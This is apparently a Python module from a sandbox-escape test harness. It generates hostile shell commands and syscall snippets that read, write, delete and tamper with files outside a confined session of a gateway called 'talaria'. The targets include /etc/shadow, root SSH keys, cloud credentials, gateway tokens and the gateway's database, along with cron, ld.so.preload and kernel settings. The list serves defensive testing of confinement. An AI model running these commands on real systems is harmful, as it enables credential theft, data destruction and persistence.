"""Hostile commands that aim at files: reading, listing, changing and linking what lies outside."""

from __future__ import annotations

import shlex
from collections.abc import Iterator

from trial.attacks.escapes import Surroundings, family, python

_READ = (
    "cat {path}",
    "dd if={path} bs=4096 count=1",
    "head -c 4000 <{path}",
    "exec 9<{path}; cat <&9",
    'mapfile -t lines <{path}; echo "${{lines[@]}}"',
    "grep -a . {path}",
    "sed -n 1,99p {path}",
    "awk 1 {path}",
    "tail -n 50 {path}",
    "cp {path} copy && cat copy",
    "cp -a {path} $HOME/ && cat $HOME/*",
    "tar cf - {path} | tar xOf -",
    "sh {path}",
    ". {path}",
    "source {path}; env",
    "read line <{path}; echo $line",
    "git --no-pager diff --no-index --text /dev/null {path}",
    "sort {path}",
    "od -c {path} | head; strings {path}",
    "base64 {path} | base64 -d",
    "cat /proc/self/root{path}",
    "cat /proc/1/root{path}",
    "cat /proc/$PPID/root{path}",
    "cat /proc/self/cwd/../../../../../../../../../..{path}",
    "cat ./../../../../../../../../../../..{path}",
    "cat /../..{path}",
    "cat /dev/fd/../../../..{path}",
    "ln -s {path} link && cat link",
    "ln {path} hard && cat hard",
    "ln -P {path} $TMPDIR/hard; cat $TMPDIR/hard",
    "mv {path} moved && cat moved",
    "mv $(dirname {path}) moved; cat moved/*",
    "ln -sfn / root && cat root{path}",
    "mkdir -p a/b && ln -s ../../../../../../../../../.. a/b/up && cat a/b/up{path}",
    "LD_PRELOAD={path} true; LD_LIBRARY_PATH=$(dirname {path}) true",
    "curl -s file://{path}",
    "diff {path} /dev/null",
    "find {path} -exec cat {{}} +",
    "python3 -c 'import sys; print(open(sys.argv[1]).read())' {path}",
    "perl -ne print {path}",
    "exec 5<>{path}; cat <&5",
    "bash -c '$(<{path})'",
    "wc -c <{path}; tac {path}",
    "cat <(cat {path})",
    "timeout 5 tail -f -n 9 {path} & sleep 0.2; kill $!",
    "getfattr -d {path}; lsattr {path}; cat {path}",
)
_READ_BY_CALLS = (
    "fd = os.open({path!r}, os.O_RDONLY | os.O_NOATIME); print(os.read(fd, 999))",
    "fd = os.open({path!r}, os.O_PATH); print(open(f'/proc/self/fd/{{fd}}').read())",
    "import mmap; f = open({path!r}, 'r+b'); print(mmap.mmap(f.fileno(), 0)[:])",
    "f = open({path!r}, 'rb'); os.sendfile(1, f.fileno(), 0, 999)",
    "f = open({path!r}, 'rb'); r, w = os.pipe(); os.splice(f.fileno(), w, 99); print(os.read(r, 99))",
    "f = open({path!r}, 'rb'); o = open('copied', 'wb'); os.copy_file_range(f.fileno(), o.fileno(), 99)",
    "fd = os.open('/', os.O_PATH); print(os.read(os.open({path!r}[1:], os.O_RDONLY, dir_fd=fd), 999))",
    "how = struct.pack('QQQ', 0, 0, 0); fd = call(437, -100, {path!r}.encode(), how, 24); print(os.read(fd, 99))",
    "buffer = ctypes.create_string_buffer(300); struct.pack_into('Ii', buffer, 0, 128, 0)\n"
    "mount = ctypes.c_int()\n"
    "print(call(303, -100, {path!r}.encode(), buffer, ctypes.byref(mount), 0))\n"
    "root = os.open('.', os.O_RDONLY); fd = call(304, root, buffer, 0); print(os.read(fd, 999))",
    "print(os.listxattr({path!r})); print(open({path!r}).read())",
    "libc.inotify_init(); fd = libc.inotify_init(); w = libc.inotify_add_watch(fd, {path!r}.encode(), 0xfff)\n"
    "print(open({path!r}).read())",
    "os.chroot(os.path.dirname({path!r})); print(open('/' + os.path.basename({path!r})).read())",
    "pid = os.fork()\nif pid == 0:\n    os.execv('/bin/cat', ['cat', {path!r}])\nos.waitpid(pid, 0)",
)
_SEARCH = (
    "ls -laR {folder} | head -50; cat {folder}/*",
    "find {folder} -type f -exec cat {{}} +",
    "cd {folder} && cat *",
    "cat {folder}/* {folder}/.[a-z]*",
    "tar cf all.tar {folder}; tar xOf all.tar",
    "cp -r {folder} $HOME/stolen",
    "grep -ra key {folder}",
    "for f in {folder}/*; do cat \"$f\"; done",
    "ln -s {folder} in; cat in/*; ls in/",
    "git clone -q {folder} cloned; cat cloned/*",
    "du -a {folder}; cat {folder}/*",
)  # fmt: skip
_WHOLE_MACHINE = (
    "cat /etc/shadow /etc/gshadow /etc/sudoers",
    "cat /root/.ssh/* /root/.bash_history /root/.profile /root/.*rc",
    "cat /home/*/.ssh/* /home/*/.*",
    "find / -xdev -maxdepth 3 -newer /etc/hostname -type f -size -9k -exec grep -a 'key = bait' {} + 2>/dev/null",
    "grep -rsa --max-count=1 'key = bait' /home /root /var /srv /mnt /run | head -20",
    "find / -maxdepth 5 -name '*.db' -o -maxdepth 5 -name '*.token' | head; cat $(find / -maxdepth 6 -name http.token)",
    "cat /etc/ssh/*key /etc/ssl/private/* /etc/machine-id",
    "cat /var/log/*; dmesg; journalctl -n 5",
    "cat ~root/.netrc ~root/.aws/credentials ~root/.config/*/*",
    "cat /proc/self/mountinfo; cat /proc/mounts; df; lsblk",
    "ls -la / /tmp /var/tmp /dev/shm /run; cat /tmp/*/* /var/tmp/*",
    "cat /sys/kernel/debug/* /sys/kernel/security/*/*",
    "cat /var/lib/*/* /var/spool/*/* /var/backups/*",
    "debugfs -R 'cat /etc/shadow' $(df / | tail -1 | cut -d' ' -f1)",
)
_WRITE = (
    "echo x >{new}",
    "touch {new}",
    "mkdir {new}",
    "mkdir -p {new}/deep/er",
    "cp /etc/hostname {new}; cp /etc/hosts {new}",
    "ln -s /etc/passwd {new}",
    "echo inside >f; ln f {new}",
    "echo inside >f; mv f {new}",
    "mkfifo {new}",
    "mknod {new} p",
    "dd if=/dev/zero of={new} count=1",
    "echo x | tee {new}",
    "install -m 0777 /bin/true {new}",
    "tar cf {new} .",
    "truncate -s 10 {new}",
    "git init -q {new}",
    "sed -n wx /dev/null; sed 's/a/b/w {new}' /etc/hosts",
    'python3 -c \'import sys; open(sys.argv[1], "w").write("x")\' {new}',
    "ln -sfn $(dirname {new}) in; echo x >in/$(basename {new})",
    "cd $(dirname {new}) && echo x >$(basename {new})",
    "echo x >/proc/self/root{new}",
    "echo x >/proc/self/cwd/../../../../../../../../../..{new}",
    "mktemp -p $(dirname {new}) $(basename {new})XXX",
    "bash -c 'exec 7>{new}; echo x >&7'",
)
_CHANGE = (
    "echo x >>{path}",
    "echo x >{path}",
    ": >{path}",
    "truncate -s 0 {path}",
    "rm -f {path}",
    "rm -rf $(dirname {path})",
    "mv {path} {path}.{marker}",
    "mv $(dirname {path}) $(dirname {path}){marker}",
    "chmod 0777 {path}; chmod 0 {path}; chmod 4755 {path}",
    "chmod 0700 $(dirname {path})",
    "chown 0:0 {path}; chgrp 1 {path}",
    "touch {path}",
    "touch -d @1 {path}",
    "touch -h -d @1 {path}",
    "setfattr -n user.{marker} -v x {path}",
    "setfacl -m u:1:rwx {path}",
    "chattr +i {path}; chattr +d {path}",
    "ln -f /etc/hosts {path}",
    "ln {path} {path}.{marker}",
    "cp /etc/hosts {path}",
    "sed -i s/key/{marker}/ {path}",
    "dd if=/dev/zero of={path} conv=notrunc count=1",
    "fallocate -l 1M {path}; fallocate -p -l 4 {path}",
    "exec 6<>{path}; echo {marker} >&6",
    "flock -n {path} true; echo x >>{path}",
    "rename key {marker} {path}; unlink {path}",
    "shred -n 1 {path}",
)
_CHANGE_BY_CALLS = (
    "os.truncate({path!r}, 0)",
    "os.open({path!r}, os.O_RDONLY | os.O_TRUNC)",
    "os.utime({path!r}, (1, 1))",
    "os.setxattr({path!r}, 'user.{marker}', b'x')",
    "fd = os.open({path!r}, os.O_RDONLY); os.fchmod(fd, 0o777)",
    "fd = os.open({path!r}, os.O_PATH); os.chmod(f'/proc/self/fd/{{fd}}', 0o600)",
    "call(452, -100, {path!r}.encode(), 0o600, 0)",
    "call(90, {path!r}.encode(), 0o600); call(268, -100, {path!r}.encode(), 0o600)",
    "call(316, -100, {path!r}.encode(), -100, b'taken-{marker}', 2); os.rename({path!r}, 'taken')",
    "os.link({path!r}, 'l'); open('l', 'a').write('x')",
    "fd = os.open(os.path.dirname({path!r}), 0x410000 | os.O_RDWR, 0o600); os.write(fd, b'x')",
    "call(132, {path!r}.encode(), struct.pack('qq', 1, 1)); call(235, {path!r}.encode(), bytes(32))",
    "call(463, -100, {path!r}.encode(), 0, b'user.{marker}', bytes(16), 16)",
    "call(469, -100, {path!r}.encode(), bytes(24), 24, 0)",
    "call(258, -100, os.path.dirname({path!r}).encode() + b'/{marker}', 0o777)",
    "call(266, b'x', -100, os.path.dirname({path!r}).encode() + b'/{marker}')",
    "fd = os.open({path!r}, os.O_RDONLY); import fcntl; fcntl.ioctl(fd, 0x40086602, struct.pack('l', 16))",
)  # fmt: skip
_SYSTEM = (
    "echo x >/usr/bin/{marker}; cp /bin/true /usr/local/bin/{marker}",
    "echo '* * * * * root true' >/etc/cron.d/{marker}",
    "echo x >>/etc/passwd; echo x >>/etc/hosts; echo x >/etc/{marker}",
    "echo '|/bin/true' >/proc/sys/kernel/core_pattern",
    "echo {marker} >/proc/sys/kernel/hostname; hostname {marker}",
    "echo /tmp/{marker} >/proc/sys/kernel/modprobe",
    "echo 1 >/proc/sys/vm/overcommit_memory; echo c >/proc/sysrq-trigger",
    "mkdir /sys/fs/cgroup/{marker}; echo $$ >/sys/fs/cgroup/cgroup.procs",
    "echo $$ >/sys/fs/cgroup/pids/cgroup.procs; mkdir /sys/fs/cgroup/*/{marker}",
    "echo x >/var/tmp/{marker}; echo x >/dev/shm/../{marker}; echo x >/run/{marker}; echo x >/opt/{marker}",
    "echo x >/home/{marker}; echo x >/root/{marker}; echo x >/{marker}",
    "mount -o remount,rw / ; echo x >/usr/{marker}",
    "echo x >/etc/ld.so.preload; echo x >/usr/lib/{marker}",
    "rm -f /usr/bin/{marker} /etc/resolv.conf /etc/hosts",
    "echo -1000 >/proc/self/oom_score_adj; echo -1000 >/proc/$PPID/oom_score_adj",
    "crontab -l; echo '* * * * * true' | crontab -; at now </dev/null",
    "systemd-run true; systemctl --user start x; loginctl enable-linger",
    "ulimit -c unlimited; sh -c 'kill -SEGV $$'; sh -c 'kill -ABRT $$'",
)


@family("files outside")
def read_files(around: Surroundings) -> Iterator[str]:
    for path in around.files:
        yield from (way.format(path=shlex.quote(path)) for way in _READ)
        yield from (python(way.format(path=path)) for way in _READ_BY_CALLS)


@family("folders and homes of others")
def read_folders(around: Surroundings) -> Iterator[str]:
    folders = dict.fromkeys([path.rpartition("/")[0] for path in around.files])
    for folder in (*folders, around.home, around.folder.rpartition("/")[0]):
        yield from (way.format(folder=shlex.quote(folder)) for way in _SEARCH)
    yield from _WHOLE_MACHINE


@family("the gateway's home and database")
def read_gateway(around: Surroundings) -> Iterator[str]:
    home = shlex.quote(around.home)
    for name in (
        "talaria.db",
        "talaria.db-wal",
        "talaria.db-shm",
        "config.toml",
        "http.token",
        ".env",
        "log",
    ):
        yield f"cat {home}/{name} | strings | grep -a bait"
        yield f"cp {home}/{name} . && cat {name}"
        yield f"echo x >>{home}/{name}; rm -f {home}/{name}"
    yield f"sqlite3 {home}/talaria.db .dump"
    yield f"sqlite3 {home}/talaria.db 'pragma user_version=1; vacuum'"
    yield python(
        f"import sqlite3; print(sqlite3.connect({around.home!r} + '/talaria.db').execute('select 1'))"
    )
    yield f"ls -la {home} {home}/files {home}/homes {home}/sessions"
    yield f"cat {home}/files/*/* {home}/homes/*/* {home}/sessions/*/* {home}/sessions/*/tmp/*"
    yield f"cat {home}/sessions/*/shell.json; echo '{{}}' >{home}/sessions/*/shell.json"
    yield "ls .. ../.. ; cat ../*/* ../../homes/*/* ../../*"
    yield "ls -la $HOME/.. ; cat $HOME/../*/*; cat $TMPDIR/../*; ls -la $TMPDIR/../.."
    yield f"mv $PWD $PWD.{around.marker}; mv $HOME $HOME.{around.marker}; mv $TMPDIR $TMPDIR.{around.marker}"
    yield f"rmdir $TMPDIR; rm -rf $TMPDIR; ln -s {home} $TMPDIR; cat $TMPDIR/*"
    yield f"rm -rf $PWD; ln -sfn {home} $PWD; cat $PWD/*; ls -la $PWD/"
    yield f"mkdir {home}/files/{around.marker}; touch {home}/homes/{around.marker} {home}/sessions/{around.marker}"
    yield f"kill -USR1 {around.gateway}; talaria --home {home} status; python3 -m talaria sessions list"


@family("writes outside")
def write_files(around: Surroundings) -> Iterator[str]:
    for folder in around.folders:
        new = shlex.quote(f"{folder}/{around.marker}")
        yield from (way.format(new=new) for way in _WRITE)
    for path in around.files:
        yield from (way.format(path=shlex.quote(path), marker=around.marker) for way in _CHANGE)
        yield from (python(way.format(path=path, marker=around.marker)) for way in _CHANGE_BY_CALLS)


@family("writes to the system")
def write_system(around: Surroundings) -> Iterator[str]:
    yield from (way.format(marker=around.marker) for way in _SYSTEM)
